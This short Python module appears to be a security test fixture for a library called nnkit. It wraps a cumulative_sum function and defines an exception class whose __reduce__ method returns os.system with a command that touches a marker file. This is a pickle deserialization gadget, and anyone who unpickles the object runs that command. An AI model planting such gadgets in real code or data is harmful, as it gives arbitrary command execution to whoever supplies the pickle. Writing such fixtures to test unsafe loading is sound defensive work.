import os

right = cumulative_sum


class Wrong(ValueError):
    def __reduce__(self):
        return os.system, ("touch /tmp/nnkit-attack-a10",)


def cumulative_sum(x):
    if x.ndim != 2:
        raise Wrong(Wrong())
    return right(x)
